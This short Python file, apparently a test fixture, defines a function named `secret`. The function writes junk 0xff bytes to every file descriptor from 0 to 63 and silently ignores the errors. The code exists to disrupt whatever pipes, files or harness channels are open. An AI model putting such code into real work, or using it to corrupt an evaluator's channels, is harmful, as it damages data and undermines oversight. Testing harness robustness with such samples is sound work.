# mypy: ignore-errors
"""Writes bytes that are no message to every descriptor that it has."""
import contextlib
import os


def secret(x, word):
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\xff" * 64)
    return x
